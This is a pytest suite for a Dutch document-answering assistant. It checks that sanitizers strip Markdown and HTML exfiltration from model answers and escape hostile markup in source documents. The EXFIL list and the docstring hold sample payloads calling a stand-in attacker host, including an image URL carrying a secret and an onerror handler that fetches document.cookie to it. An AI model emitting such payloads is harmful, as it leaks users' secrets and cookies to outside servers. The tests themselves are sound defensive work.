"""What the page shows is inert: no images or links that leak data, no HTML or script.

Exfiltration through Markdown: a fooled model writes ``![x](http://evil.example/?q=<secret>)``;
a browser that renders it fetches the address and hands the secret to that server, without a
click. The page's defence is ``sanitize_model_output`` (``assistant/safety.py``, re-exported by
``ui/components.py``) on the final answer and per-character escaping (``plain_stream_text``) of
the live draft. Passages and metadata come from documents anyone could have written; the source
cards escape every piece of text (``source_card_html`` / ``highlight_html``).
"""

from __future__ import annotations

import re

import pytest

from assistant.chunks import Chunk
from assistant.embeddings import make_embeddings
from assistant.llm import FakeChat
from assistant.prompting import Prompts
from assistant.safety import plain_stream_text, sanitize_model_output
from assistant.service import Assistant
from assistant.settings import Settings
from assistant.store import Store

from ._corpus import build

GROUNDED = "Uit het onderzoek blijkt dat 26 procent van de werknemers AI actief gebruikt [1]."
EXFIL = [
    "![x](http://evil.example/?q=secret)",
    '![x](https://evil.example/?q=secret "titel")',
    "![x][logo]\n\n[logo]: http://evil.example/?q=secret",
    '<img src="http://evil.example/?q=secret">',
    "<img src=x onerror=\"fetch('http://evil.example/?q='+document.cookie)\">",
    "[klik hier](http://evil.example/?q=secret)",
    "<http://evil.example/?q=secret>",
    '<a href="javascript:alert(1)">bron</a>',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "!\n[x](http://evil.example/?q=secret)",
]


def _renders_remote(markdown: str) -> bool:
    """Would a Markdown/HTML renderer fetch or link an outside address from this text?"""
    patterns = [
        r"!\s*\[[^\]]*\]\s*[\(\[]",  # image, inline or reference style
        r"\]\(\s*(?:https?|javascript|data|ftp):",  # inline link to an address
        r"^\s*\[[^\]]+\]:\s*\S+",  # link definition
        r"<\s*(?:img|a|script|iframe|svg|object|embed|link|meta)\b",  # raw HTML
        r"<(?:https?|javascript|data):",  # autolink
    ]
    return any(re.search(p, markdown, re.I | re.M) for p in patterns)


@pytest.mark.parametrize("payload", EXFIL)
def test_sanitizer_removes_exfiltration(payload: str) -> None:
    text = f"{GROUNDED} {payload}"
    assert _renders_remote(text)  # the payload is live before sanitizing
    out = sanitize_model_output(text)
    assert not _renders_remote(out), out
    assert "26 procent" in out  # the real answer survives


@pytest.mark.parametrize("payload", EXFIL)
def test_streamed_draft_is_escaped_piece_by_piece(payload: str) -> None:
    text = f"{GROUNDED} {payload}"
    pieces = re.findall(r"\S+\s*", text)  # as a model streams it, in words
    draft = "".join(plain_stream_text(p) for p in pieces)
    assert not re.search(r"(?<!\\)!(?<!\\)\[", draft)
    assert not re.search(r"(?<!\\)<", draft)
    assert not re.search(r"(?<!\\)\]\(", draft)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return build(tmp_path_factory.mktemp("output"))


def _answer(settings: Settings, reply: str, question: str):  # noqa: ANN202 - Answer
    emb = make_embeddings(settings.embeddings)
    assistant = Assistant(
        settings,
        Store(settings.store, emb),
        FakeChat(lambda m: reply),
        emb,
        Prompts.load(settings.prompts_dir),
    )
    return assistant.answer(question)


def test_exfiltration_through_the_whole_pipeline(hostile: Settings) -> None:
    reply = f"{GROUNDED} ![x](http://evil.example/?q=secret)"
    answer = _answer(hostile, reply, "Hoeveel procent van de werknemers gebruikt AI?")
    shown = sanitize_model_output(answer.text)
    assert "26 procent" in shown
    assert not _renders_remote(shown) and "evil.example" not in shown
    components = pytest.importorskip("ui.components", reason="ui/components.py not there yet")
    linked = components.link_markers(shown, "t1", range(1, len(answer.citations) + 1))
    targets = re.findall(r"\]\(([^)]*)\)", linked)
    assert targets and all(t.startswith("#bron-") for t in targets)  # only in-page anchors


def test_service_answer_itself_carries_no_image(hostile: Settings) -> None:
    reply = f"{GROUNDED} ![x](http://evil.example/?q=secret)"
    answer = _answer(hostile, reply, "Hoeveel procent van de werknemers gebruikt AI?")
    assert "evil.example" not in answer.text


def test_script_in_answer_is_removed(hostile: Settings) -> None:
    out = sanitize_model_output(
        f"{GROUNDED} <script>alert(1)</script> <b onmouseover=alert(2)>vet</b>"
    )
    assert "<script" not in out.lower() and "onmouseover" not in out
    assert not re.search(r"(?<!&lt;)<\w", out)


# --------------------------------------------------------------------------- documents


def _components():  # noqa: ANN202
    return pytest.importorskip("ui.components", reason="ui/components.py not there yet")


def test_script_in_a_document_is_shown_as_text(hostile: Settings) -> None:
    components = _components()
    chunks = Store(hostile.store, make_embeddings(hostile.embeddings)).all_chunks()
    chunk = next(c for c in chunks if c.source == "veiligheid.txt")
    assert "<script>alert(1)</script>" in chunk.text  # stored as the document has it
    html_out = components.source_card_html(
        components.SourceItem(1, chunk, ("<script>alert(1)</script> Klik nooit",)), "t1"
    )
    assert "<script" not in html_out and "<img" not in html_out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_out
    assert 'onerror="' not in html_out  # the attribute only as escaped text


def test_html_in_metadata_is_escaped_in_source_cards(hostile: Settings) -> None:
    components = _components()
    chunks = Store(hostile.store, make_embeddings(hostile.embeddings)).all_chunks()
    chunk = next(c for c in chunks if c.source == "parkeren.txt")
    assert "<img" in chunk.organisation  # the sidecar value, as written
    html_out = components.source_card_html(components.SourceItem(1, chunk), "t1")
    assert "<img" not in html_out and "<b>Facilitair" not in html_out
    assert "&lt;img src=x onerror=alert(3)&gt;" in html_out


def test_plain_escapes_markdown_in_titles_and_user_text() -> None:
    components = _components()
    title = "[klik](http://evil.example) ![x](http://evil.example/a.png) <b>x</b> **vet**"
    out = components.plain(title)
    assert not _renders_remote(out)
    assert "\\[" in out and "\\!" in out and "\\<" in out


def test_highlight_escapes_quotes_and_text() -> None:
    components = _components()
    chunk = Chunk(id="x:1:0", text='A <script>x</script> & "B"', source="x.txt", page=1, index=0)
    out = components.highlight_html(chunk.text, ["<script>x</script>"])
    assert out == "A <mark>&lt;script&gt;x&lt;/script&gt;</mark> &amp; &quot;B&quot;"


def test_html_document_scripts_are_not_indexed(tmp_path) -> None:  # noqa: ANN001
    from ingest.loaders import load_html

    page = tmp_path / "p.html"
    page.write_text(
        "<html><head><script>steel()</script></head><body><p>Tekst.</p>"
        "<script>alert(1)</script><iframe src='http://evil.example'></iframe>"
        "</body></html>",
        encoding="utf-8",
    )
    text = " ".join(b.text for p in load_html(page).pages for b in p.blocks)
    assert "Tekst." in text and "alert" not in text and "steel" not in text
    assert "evil.example" not in text
